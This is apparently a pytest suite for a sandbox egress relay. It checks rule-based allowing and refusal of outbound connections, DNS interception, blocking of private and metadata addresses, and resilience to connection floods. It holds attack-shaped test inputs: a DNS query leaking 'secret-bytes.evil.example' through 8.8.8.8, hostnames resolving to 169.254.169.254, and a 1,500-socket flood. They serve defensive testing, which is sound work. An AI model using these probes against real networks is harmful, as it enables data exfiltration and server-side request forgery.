"""The relay between real namespaces: what gets out, what does not, and what is told of it."""

from __future__ import annotations

import signal
import socket
from collections.abc import Iterator

import pytest

from shed.egress import wire
from shed.egress.decisions import MOST_ENTRIES
from support.servers.netlab import TALK, Lab, lab
from support.waiting import wait_until

pytestmark = pytest.mark.root
PUBLIC = "93.184.216.34"
FETCH = """
import sys, urllib.error, urllib.request
try:
    with urllib.request.urlopen(sys.argv[1], timeout=30) as answer:
        print(answer.status, answer.read().decode())
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode())
except OSError as error:
    print("no", error)
"""
MAIL = """
import socket
sock = socket.create_connection(("other.example.com", 25), timeout=30)
try:
    print(sock.recv(1))
except ConnectionResetError:
    print("reset")
"""
SIX = """
import socket
try:
    socket.create_connection(("2606:2800:220:1::1", 80), timeout=2)
    print("out")
except OSError:
    print("nothing")
"""
NAME_SERVERS = """
import socket, struct
labels = b"".join(bytes([len(label)]) + label for label in b"secret-bytes.evil.example".split(b"."))
question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", 1, 1)
def network(answer):
    return ".".join(socket.inet_ntoa(answer[-4:]).split(".")[:2])
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(30)
udp.sendto(question, ("8.8.8.8", 53))
print(network(udp.recv(512)))
tcp = socket.create_connection(("8.8.8.8", 53), timeout=30)
tcp.sendall(struct.pack("!H", len(question)) + question)
print(network(tcp.recv(512)))
"""


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """A lab, for all tests of this file."""
    with lab(tmp_path_factory.mktemp("lab")) as made:
        yield made


def fetch(net: Lab, url: str) -> str:
    """Return what a client in the guest says of `url`."""
    return net.python(FETCH, url)


def test_a_name_that_a_rule_allows_is_reached(net: Lab) -> None:
    """By its name, with the address that the host's resolver has; the log says so."""
    net.names({"www.example.com": [PUBLIC]})
    net.rule({"allow": "www.example.com"})
    assert fetch(net, "http://www.example.com/hello") == "200 hello\n\n"
    last = net.decisions()[-1]
    assert (last["name"], last["address"], last["port"], last["allowed"]) == ("www.example.com", PUBLIC, 80, True)
    assert last["rule"] == "mine: allow www.example.com"
    assert last["received"] > last["sent"] > 0


def test_bytes_arrive_as_they_are_in_both_directions(net: Lab) -> None:
    """Also megabytes at once, and the end of one direction does not end the other."""
    net.names({"echo.example.com": [PUBLIC]})
    net.rule({"allow": "echo.example.com", "ports": [7]})
    assert net.python(TALK, "echo.example.com", "7") == "all of it\n"


def test_a_refusal_says_why(net: Lab) -> None:
    """To HTTP with 403 and a sentence, to TLS with an alert, to all else with a reset."""
    net.rule()
    answer = fetch(net, "http://other.example.com/hello")
    assert answer.startswith("403 shed: a connection to other.example.com:80 is not allowed: no rule allows it\n")
    assert "shed egress log dev" in answer
    assert "ACCESS_DENIED" in fetch(net, "https://other.example.com/").upper().replace(" ", "_")
    program = MAIL
    assert net.python(program) == "reset\n"
    assert [entry["allowed"] for entry in net.decisions()[-3:]] == [False, False, False]


@pytest.mark.parametrize(
    "address", ["127.0.0.1", "169.254.169.254", "10.1.2.3", "192.168.0.1", "100.127.0.1", "100.127.0.2"]
)
def test_a_name_does_not_lead_to_the_host_or_behind_it(net: Lab, address: str) -> None:
    """Whoever controls a name server of the internet cannot have a shed reach what it must not."""
    name = f"evil-{address.replace('.', '-')}.example.com"
    net.names({name: [address]})
    net.rule({"allow": "*"}, {"allow": "0.0.0.0/0"})
    told = fetch(net, f"http://{name}/hello")
    assert told.startswith(f"403 shed: a connection to {name}:80 is not allowed: its address is")
    assert net.decisions()[-1]["address"] == address


def test_of_a_names_addresses_only_those_are_dialled_that_may_be(net: Lab) -> None:
    """The first one is the host's own; the second one answers."""
    net.names({"mixed.example.com": ["127.0.0.1", PUBLIC]})
    net.rule({"allow": "*"})
    assert fetch(net, "http://mixed.example.com/hello") == "200 hello\n\n"
    assert net.decisions()[-1]["address"] == PUBLIC


def test_addresses_are_ruled_as_addresses(net: Lab) -> None:
    """A rule for names opens none; the namespace's own gateway and the relay's port are nobody's."""
    net.rule({"allow": "*"})
    assert fetch(net, f"http://{PUBLIC}/hello").startswith("403 ")
    net.rule({"allow": "93.184.0.0/16", "ports": [80]})
    assert fetch(net, f"http://{PUBLIC}/hello") == "200 hello\n\n"
    net.rule({"allow": "0.0.0.0/0"}, {"allow": "*"})
    for gateway in ("10.0.2.2:1", "10.0.2.2", "10.0.2.2:8080"):
        assert fetch(net, f"http://{gateway}/").startswith("403 ")


def test_a_made_up_address_that_stands_for_nothing_leads_nowhere(net: Lab) -> None:
    """Whatever is allowed."""
    net.rule({"allow": "*"}, {"allow": "0.0.0.0/0"})
    assert fetch(net, "http://198.19.255.254/hello").startswith("403 ")


UDP = """
import socket, sys
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(1)
sock.sendto(b"x", (sys.argv[1], int(sys.argv[2])))
try:
    print("answered", sock.recv(100))
except OSError as error:
    print("nothing")
"""


def test_nothing_but_tcp_and_name_service_leaves(net: Lab) -> None:
    """No UDP, no QUIC, no ping of others, no IPv6; the gateway answers a ping."""
    net.rule({"allow": "*"}, {"allow": "0.0.0.0/0"}, {"allow": "::/0"})
    for port in ("123", "443", "7"):
        assert net.python(UDP, PUBLIC, port) == "nothing\n"
    assert net.run("ping", "-c1", "-W1", PUBLIC).returncode != 0
    assert net.run("ping", "-c1", "-W5", "10.0.2.2").returncode == 0
    v6 = SIX
    assert net.python(v6) == "nothing\n"


def test_every_name_server_is_ours(net: Lab) -> None:
    """A query to any address is answered here, also by TCP, and no name that is not allowed is asked for elsewhere."""
    net.rule()
    first, second = net.python(NAME_SERVERS).split()
    assert first == second
    assert first in {"198.18", "198.19"}


def test_a_name_that_is_allowed_and_does_not_exist_is_not_there(net: Lab) -> None:
    """As programs expect it."""
    net.names({})
    net.rule({"allow": "*"})
    assert "Name or service not known" in fetch(net, "http://missing.example.com/")


HOLD = """
import socket, sys
sock = socket.create_connection((sys.argv[1], 7), timeout=60)
sock.sendall(b"x"); sock.recv(1)
print("connected", flush=True)
try:
    print(repr(sock.recv(1)))
except ConnectionResetError:
    print("reset")
"""


def test_new_rules_cut_what_they_do_not_allow(net: Lab) -> None:
    """At once, and only that; the log says so."""
    net.names({"echo.example.com": [PUBLIC], "stays.example.com": [PUBLIC]})
    net.rule({"allow": "*.example.com"})
    cut, stays = (net.start_in_guest(HOLD, name) for name in ("echo.example.com", "stays.example.com"))
    for child in (cut, stays):
        assert child.stdout is not None
        assert child.stdout.readline() == b"connected\n"
    assert net.rule({"allow": "stays.example.com"})["cut"] == 1
    assert cut.stdout is not None
    assert cut.stdout.readline() in {b"reset\n", b"b''\n"}
    wait_until(lambda: net.do({"do": "list"})["sheds"] == {"dev": 1})
    assert stays.poll() is None
    stays.kill()


FLOOD = """
import socket
held = []
for number in range(1500):
    sock = socket.socket(); sock.setblocking(False)
    try:
        sock.connect(("echo.example.com", 7)) if number == 0 else sock.connect((address, 7))
    except BlockingIOError:
        pass
    if number == 0:
        address = socket.gethostbyname("echo.example.com")
    held.append(sock)
import time
sock = held[0]
print("held")
"""


def test_a_flood_of_connections_ends_with_its_client(net: Lab) -> None:
    """More connections than a shed may have wait in the kernel; the next client is served when they have gone."""
    net.names({"echo.example.com": [PUBLIC]})
    net.rule({"allow": "echo.example.com"}, log="refused")
    assert net.python(FLOOD) == "held\n"
    assert net.python(TALK, "echo.example.com", "7") == "all of it\n"


def test_a_relay_that_is_killed_lets_nothing_out_until_it_is_back(net: Lab) -> None:
    """The card leads nowhere else; a new process goes on with the same sockets."""
    net.names({"www.example.com": [PUBLIC]})
    net.rule({"allow": "www.example.com"})
    net.netd.send_signal(signal.SIGKILL)
    net.netd.wait()
    program = FETCH.replace("timeout=30", "timeout=2")
    assert net.python(program, "http://www.example.com/hello").startswith("no ")
    net.netd = net.start_netd()
    net.open()
    net.rule({"allow": "www.example.com"})
    assert fetch(net, "http://www.example.com/hello") == "200 hello\n\n"


def test_nonsense_from_the_control_socket_ends_nothing(net: Lab) -> None:
    """Unknown words, bad rules, missing sockets are answered; bytes that are no message end that connection alone."""
    bad_rule = {"p": {"rules": [3]}}
    for message in (
        {},
        {"do": "dance", "shed": "dev", "orders": {}},
        {"do": "open", "shed": "x", "orders": {}},
        {"do": "rule", "shed": "nobody", "orders": {}},
        {"do": "rule", "shed": "dev", "orders": {"profiles": bad_rule}},
    ):
        assert "error" in net.do(message)
    from shed.egress.netdfiles import SOCKET

    with socket.socket(socket.AF_UNIX) as client:
        client.connect(str(net.folder / SOCKET))
        client.sendall(b"\xff\xff\xff\xff")
        assert client.recv(1) == b""
    assert "dev" in net.do({"do": "list"})["sheds"]


def test_those_who_watch_are_told_at_once(net: Lab) -> None:
    """Of each connection when it begins and when it has ended; who does not read is told what was missed."""
    net.names({"echo.example.com": [PUBLIC]})
    net.rule({"allow": "echo.example.com"})
    with net.watch() as watch, net.watch():  # the second one never reads, and holds nobody up
        assert net.python(TALK, "echo.example.com", "7") == "all of it\n"
        began, ended = (wire.receive(watch)[0] for _ in range(2))
        assert (began["began"]["name"], began["began"]["port"]) == ("echo.example.com", 7)
        assert ended["entry"] == net.decisions()[-1]
        assert ended["entry"]["sent"] > 3_000_000
        net.rule(log="refused")
        fetch(net, "http://other.example.com/")
        refused = wire.receive(watch)[0]["entry"]
        assert (refused["name"], refused["allowed"]) == ("other.example.com", False)


MANY = """
import socket
for number in range(2600):
    with socket.socket() as sock:
        sock.settimeout(5)
        try:
            sock.connect(("198.19.255.254", 80))
            sock.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            sock.recv(1000)
        except OSError:
            pass
"""


def test_a_shed_does_not_push_out_what_the_log_has_of_others(net: Lab) -> None:
    """Of what it tries in a minute only so much is written; the rest is counted."""
    net.rule()
    before = len(net.decisions())
    net.python(MANY)
    written = [entry for entry in net.decisions()[before:] if "left_out" not in entry]
    assert 0 < len(written) <= 2 * MOST_ENTRIES < 2600  # a minute may end in between
